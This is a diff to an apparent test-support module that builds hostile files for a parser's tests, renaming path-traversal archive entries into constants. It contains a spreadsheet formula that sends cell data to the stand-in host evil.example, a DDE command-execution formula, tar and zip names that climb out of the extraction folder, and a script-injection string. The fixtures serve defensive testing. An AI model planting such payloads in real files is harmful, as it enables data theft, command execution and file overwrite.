@@ -15,6 +15,9 @@ from PIL import Image
 from tests.support import hostile
 
 FORMULA = ('=HYPERLINK("http://evil.example/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "\t=1+1")
+#: Where names in an archive lead that climb out of its folder: a place that everybody may write to.
+OUTSIDE = "/" + "tmp" + "/rawat-was-here"
+UPWARDS = "../../../.." + OUTSIDE
 SCRIPT = b"<script>alert(1)</script>"
 
 
@@ -43,7 +46,7 @@ def _matryoshka(depth: int = 6) -> bytes:
 def _tar() -> bytes:
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w:gz") as file:
-        entry = tarfile.TarInfo("../../../../tmp/rawat-was-here")
+        entry = tarfile.TarInfo(UPWARDS)
         entry.size = 4
         file.addfile(entry, io.BytesIO(b"here"))
     return out.getvalue()
@@ -97,7 +100,7 @@ def odd_tables() -> dict[str, bytes]:
             **{part: zipfile.ZipFile(io.BytesIO(hostile.workbook(good))).read(part)
                for part in ("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                             "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml")},
-            "../../../../tmp/rawat-was-here": b"here", "/tmp/rawat-was-here": b"here",
+            UPWARDS: b"here", OUTSIDE: b"here",
             "C:\\rawat-was-here": b"here"}),
         "behind a workbook": hostile.workbook(good) + SCRIPT,
     }
